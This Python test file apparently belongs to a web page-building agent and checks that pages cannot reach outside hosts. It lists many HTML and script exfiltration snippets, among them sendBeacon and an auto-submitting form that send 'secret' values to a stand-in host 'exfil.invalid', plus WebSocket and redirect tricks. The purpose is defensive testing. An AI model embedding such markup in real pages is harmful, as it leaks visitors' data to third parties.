"""No network from pages: every way a page can reach out is stopped before it leaves, and reported.

Each attempt targets two hosts: ``exfil.invalid`` (never resolves) and a live HTTP listener on
another loopback port, which counts every connection it accepts; zero connections is the proof
that nothing left. Pages are written as a model might write them, with and without our CSP.
"""

from __future__ import annotations

import re
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from webagent.core.answers import SectionCode
from webagent.core.assemble import write_page as assemble_page
from webagent.core.config import Settings
from webagent.core.health import RenderHealth
from webagent.core.source import PageSource
from webagent.engine.build import build
from webagent.generators.section.llm import sanitised
from webagent.webbench.bench.report import BLOCKED_SHOWN, write_reports
from webagent.webbench.bench.runner import RESULTS, BenchResult
from webagent.webbench.evaluation.contracts import PageEvidence
from webagent.webbench.evaluation.evaluate import STATIC, evaluate_page
from webagent.webbench.evaluation.evidence import collect_evidence, health_of

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parent.parent
CSP_META = re.search(
    r'<meta http-equiv="Content-Security-Policy"[^>]*>',
    (ROOT / "webagent" / "core" / "templates" / "page.html.j2").read_text(),
).group(0)
REMOTE = "http://exfil.invalid"
LATE_CONNECTION_S = 0.5
READY_AFTER_MS = 600  # time for timers, workers and sockets to make their attempts before the page is read

# kind → markup reaching ``{h}`` (a host), and the paths it requests there
SUBRESOURCES: dict[str, tuple[str, list[str]]] = {
    "stylesheet": ('<link rel="stylesheet" href="{h}/css2?family=Inter">', ["/css2?family=Inter"]),
    "font": (
        "<style>@font-face {{ font-family: Remote; src: url({h}/font.woff2); }} h1 {{ font-family: Remote; }}</style>",
        ["/font.woff2"],
    ),
    "css @import": ('<style>@import url("{h}/import.css");</style>', ["/import.css"]),
    "css background": (
        '<div style="width:20px;height:20px;background-image:url({h}/background.png)"></div>',
        ["/background.png"],
    ),
    "img": ('<img src="{h}/img.png" alt="">', ["/img.png"]),
    "srcset": ('<img srcset="{h}/srcset.png 1x" alt="">', ["/srcset.png"]),
    "picture source": (
        '<picture><source srcset="{h}/picture.webp" type="image/webp"><img alt=""></picture>',
        ["/picture.webp"],
    ),
    "script src": ('<script src="{h}/script.js"></script>', ["/script.js"]),
    "iframe": ('<iframe src="{h}/frame.html"></iframe>', ["/frame.html"]),
    "object": ('<object data="{h}/object.html" type="text/html"></object>', ["/object.html"]),
    "embed": ('<embed src="{h}/embed.svg" type="image/svg+xml">', ["/embed.svg"]),
    "preload": ('<link rel="preload" href="{h}/preload.js" as="script">', ["/preload.js"]),
    "prefetch": ('<link rel="prefetch" href="{h}/prefetch.html">', ["/prefetch.html"]),
    "dns-prefetch + preconnect": ('<link rel="dns-prefetch" href="{h}/"><link rel="preconnect" href="{h}/">', []),
    "video src + poster": (
        '<video src="{h}/video.mp4" poster="{h}/poster.jpg"></video>',
        ["/video.mp4", "/poster.jpg"],
    ),
    "audio": ('<audio src="{h}/audio.mp3" autoplay></audio>', ["/audio.mp3"]),
    "fetch": ('<script>fetch("{h}/fetch").catch(() => {{}});</script>', ["/fetch"]),
    "XMLHttpRequest": (
        '<script>{{ const r = new XMLHttpRequest(); r.open("GET", "{h}/xhr"); r.send(); }}</script>',
        ["/xhr"],
    ),
    "sendBeacon": ('<script>navigator.sendBeacon("{h}/beacon", "secret");</script>', ["/beacon"]),
    "EventSource": ('<script>new EventSource("{h}/events");</script>', ["/events"]),
    "new Image().src": ('<script>new Image().src = "{h}/pixel.gif";</script>', ["/pixel.gif"]),
    "Worker importScripts": (
        '<script>new Worker("worker.js?target=" + encodeURIComponent("{h}"));</script>',
        ["/worker-import.js"],
    ),
    "ServiceWorker": (
        '<script>navigator.serviceWorker && navigator.serviceWorker.register("sw.js?target="'
        ' + encodeURIComponent("{h}")).catch(() => {{}});</script>',
        [],
    ),
}
SOCKETS = {"WebSocket ws://": ("ws", "/ws"), "WebSocket wss://": ("wss", "/wss")}
# kind → markup that tries to move the whole page to ``{h}``, and the path it asks for
NAVIGATIONS: dict[str, tuple[str, str]] = {
    "meta refresh": ('<meta http-equiv="refresh" content="0;url={h}/refresh">', "/refresh"),
    "location after a timeout": (
        '<script>setTimeout(() => {{ window.location = "{h}/location"; }}, 50);</script>',
        "/location",
    ),
    "form auto-submit": (
        '<form id="leak" action="{h}/form" method="post"><input name="k" value="secret"></form>'
        '<script>document.getElementById("leak").submit();</script>',
        "/form",
    ),
    "base href": ('<base href="{h}/"><img src="based.png" alt="">', "/based.png"),
}
WORKER_JS = "importScripts(new URL(location.href).searchParams.get('target') + '/worker-import.js');"


@dataclass
class Listener:
    """A live HTTP server on its own loopback port, counting the connections it accepts."""

    origin: str
    connections: list[str] = field(default_factory=list)

    def arrived(self) -> list[str]:
        """Every connection so far, after a moment for a late one (a lazy preconnect) to be accepted."""
        time.sleep(LATE_CONNECTION_S)
        return self.connections


@pytest.fixture
def listener() -> Iterator[Listener]:
    """A target that IS reachable from the browser's machine: anything arriving here has left the page."""
    seen = Listener(origin="")

    class Counting(BaseHTTPRequestHandler):
        def setup(self) -> None:
            seen.connections.append(f"connection from {self.client_address}")
            super().setup()

        def do_GET(self) -> None:
            seen.connections.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Counting)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    seen.origin = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        yield seen
    finally:
        server.shutdown()
        server.server_close()


def page_folder(folder: Path, body: str, head: str = "") -> Path:
    """A hand-written page, ready for reading once its attempts have had time to happen."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "worker.js").write_text(WORKER_JS)
    (folder / "sw.js").write_text(WORKER_JS)
    (folder / "index.html").write_text(
        f"<!doctype html><html><head><meta charset='utf-8'>{head}<title>Original</title></head><body>"
        f"<h1>Original page</h1>{body}<script>const opened = Date.now();"
        f"window.webagentReady = () => Date.now() - opened > {READY_AFTER_MS};</script></body></html>"
    )
    return folder


def subresource_markup(host: str) -> str:
    """Every subresource and script attempt of SUBRESOURCES and SOCKETS aimed at ``host``."""
    sockets = "".join(
        f'<script>try {{ new WebSocket("{scheme}{host.removeprefix("http")}{path}"); }} catch (e) {{}}</script>'
        for scheme, path in SOCKETS.values()
    )
    return "".join(markup.format(h=host) for markup, _ in SUBRESOURCES.values()) + sockets


def attempted_urls(host: str) -> list[str]:
    """The URL of every request SUBRESOURCES and SOCKETS make to ``host``."""
    urls = [host + path for _, paths in SUBRESOURCES.values() for path in paths]
    return urls + [scheme + host.removeprefix("http") + path for scheme, path in SOCKETS.values()]


def load(session, folder: Path) -> tuple[PageEvidence, RenderHealth]:
    evidence = collect_evidence(session, folder, folder / "evidence", timeout_s=15)
    return evidence, health_of(evidence)


def blocked_by_route(health: RenderHealth) -> set[str]:
    return {url for url in health.blocked_requests if "(refused by CSP" not in url}


def refused_by_csp(health: RenderHealth) -> dict[str, str]:
    """URL → directive of each load the page's own CSP refused."""
    found = (re.fullmatch(r"(\S+) \(refused by CSP ([\w-]+)\)", entry) for entry in health.blocked_requests)
    return {match[1]: match[2] for match in found if match}


def assert_page_stayed(evidence: PageEvidence, folder: Path) -> None:
    assert evidence.visible_text.startswith("Original page")
    assert (folder / "evidence" / evidence.screenshot).is_file()


def test_every_way_out_of_a_foreign_page_is_blocked_and_reported(tmp_path, browser_session, listener):
    folder = page_folder(tmp_path / "site", subresource_markup(REMOTE) + subresource_markup(listener.origin))
    evidence, health = load(browser_session, folder)
    assert listener.arrived() == []
    missing = [
        url for url in attempted_urls(REMOTE) + attempted_urls(listener.origin) if url not in blocked_by_route(health)
    ]
    assert missing == []
    assert health.blocked_requests == evidence.outside_requests and not health.ok
    assert_page_stayed(evidence, folder)


def test_our_csp_refuses_loads_before_routing_and_they_are_still_reported(tmp_path, browser_session, listener):
    folder = page_folder(
        tmp_path / "site", subresource_markup(REMOTE) + subresource_markup(listener.origin), head=CSP_META
    )
    evidence, health = load(browser_session, folder)
    assert listener.arrived() == []
    refused, routed = refused_by_csp(health), blocked_by_route(health)
    for url in attempted_urls(REMOTE) + attempted_urls(listener.origin):
        # Chromium names a refused nested document (a frame, an <object> of HTML) by its origin only
        frame_origin = re.sub(r"/(?:frame|object)\.html$", "/", url)
        assert url in refused or url in routed or frame_origin in refused, url
    assert refused["http://exfil.invalid/img.png"] == "img-src"
    assert refused[listener.origin + "/fetch"] == "connect-src"
    assert not any("Content Security Policy" in error for error in health.console_errors if "blob:" not in error)
    assert_page_stayed(evidence, folder)


@pytest.mark.parametrize("csp", ["", CSP_META], ids=["foreign page", "our CSP"])
@pytest.mark.parametrize("kind", NAVIGATIONS)
def test_navigating_away_is_blocked_and_the_page_stays(tmp_path, browser_session, listener, kind, csp):
    markup, path = NAVIGATIONS[kind]
    folder = page_folder(tmp_path / "site", markup.format(h=listener.origin), head=csp)
    evidence, health = load(browser_session, folder)
    assert listener.arrived() == []
    reported = blocked_by_route(health) | set(refused_by_csp(health))
    refused_base = kind == "base href" and csp  # base-uri 'none' refuses the base itself; based.png stays local
    assert (listener.origin + "/" if refused_base else listener.origin + path) in reported
    assert_page_stayed(evidence, folder)
    assert "page did not finish loading in time" not in health.console_errors


def test_health_summary_names_the_first_blocked_requests():
    health = RenderHealth(blocked_requests=[f"{REMOTE}/{n}.png" for n in range(5)])
    assert (
        "5 blocked requests (http://exfil.invalid/0.png, http://exfil.invalid/1.png, "
        "http://exfil.invalid/2.png, …)" in health.summary()
    )
    assert "0 blocked requests;" in RenderHealth().summary()


@pytest.fixture(scope="module")
def built_page(tmp_path_factory, browser_session) -> Path:
    """A page our offline pipeline built."""
    folder = tmp_path_factory.mktemp("built") / "page"
    return build(
        "A landing page for a coffee roastery named Ember & Oak with a hero image",
        folder,
        Settings(),
        browser=browser_session,
    ).page.parent


def csp_directives(html: str) -> dict[str, list[str]]:
    content = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', html).group(1)
    return {name: sources for name, *sources in (part.split() for part in content.split(";") if part.strip())}


def test_a_page_we_build_allows_only_its_own_files(built_page):
    directives = csp_directives((built_page / "index.html").read_text())
    assert directives["default-src"] == ["'self'"]
    allowed = {"'self'", "'unsafe-inline'", "data:", "blob:", "'none'"}
    assert {source for sources in directives.values() for source in sources} <= allowed
    for fetches in ("default-src", "img-src", "media-src", "script-src", "style-src", "font-src", "connect-src"):
        assert "'none'" not in directives[fetches] and "*" not in " ".join(directives[fetches])
    assert {name: directives[name] for name in ("frame-src", "object-src", "base-uri", "form-action")} == dict.fromkeys(
        ("frame-src", "object-src", "base-uri", "form-action"), ["'none'"]
    )


def model_section(host: str) -> str:
    """A section as a careless model might write it: every way out at once."""
    return (
        f"<section><h2>Visit us</h2><p>Fresh roasts daily.</p>{subresource_markup(host)}"
        f'<a href="{host}/menu">Menu</a></section>'
    )


def first_section(built_page: Path) -> tuple[PageSource, str]:
    source = PageSource.model_validate_json((built_page / "source.json").read_text())
    return source, source.plan.sections[0].id


def rebuilt_with_section(built_page: Path, folder: Path, code: SectionCode) -> Path:
    """``built_page`` written again into ``folder`` with ``code`` as its first section."""
    source, first = first_section(built_page)
    source.section_html[first], source.section_css[first] = code.html, code.css
    (folder / "assets").mkdir(parents=True)
    for asset in (built_page / "assets").iterdir():
        (folder / "assets" / asset.name).write_bytes(asset.read_bytes())
    return assemble_page(folder, source).parent


def test_remote_markup_in_a_section_is_removed_by_the_sanitiser(tmp_path, built_page, browser_session, listener):
    code = sanitised(SectionCode(html=model_section(listener.origin), css=""), first_section(built_page)[1])
    assert listener.origin.removeprefix("http://") not in code.html + code.css
    evidence, health = load(browser_session, rebuilt_with_section(built_page, tmp_path / "site", code))
    assert listener.arrived() == [] and health.blocked_requests == []
    assert "Fresh roasts daily." in evidence.visible_text


def test_remote_markup_that_slips_past_the_sanitiser_is_refused_by_our_csp(
    tmp_path, built_page, browser_session, listener
):
    unsanitised = SectionCode(html=model_section(listener.origin), css="")
    evidence, health = load(browser_session, rebuilt_with_section(built_page, tmp_path / "site", unsanitised))
    assert listener.arrived() == []
    assert refused_by_csp(health)[listener.origin + "/img.png"] == "img-src"
    assert listener.origin + "/fetch" in refused_by_csp(health)
    assert "Fresh roasts daily." in evidence.visible_text


def test_bench_report_lists_the_blocked_requests_of_each_page(tmp_path, browser_session):
    bench = tmp_path / "bench"
    page = page_folder(tmp_path / "page", "".join(f'<img src="{REMOTE}/{n}.png" alt="">' for n in range(7)))
    evidence_dir = bench / "cases" / "case-1" / "evaluation"
    evidence = collect_evidence(browser_session, page, evidence_dir, timeout_s=15)
    evaluation = evaluate_page("A page", "case-1", evidence, evidence_dir, STATIC, Settings())
    result = BenchResult(
        file_id="case-1",
        status="done",
        judge=STATIC,
        page="../page",
        screenshot=f"cases/case-1/evaluation/{evidence.screenshot}",
        evaluation=evaluation,
    )
    (bench / RESULTS).write_text(result.model_dump_json() + "\n")
    report = write_reports(bench).report_html.read_text()
    assert sorted(evidence.outside_requests) == [f"{REMOTE}/{n}.png" for n in range(7)]
    assert "7 blocked requests" in report and "… 2 more" in report
    assert all(f"<li>{url}</li>" in report for url in evidence.outside_requests[:BLOCKED_SHOWN])
    assert evidence.outside_requests[-1] not in report
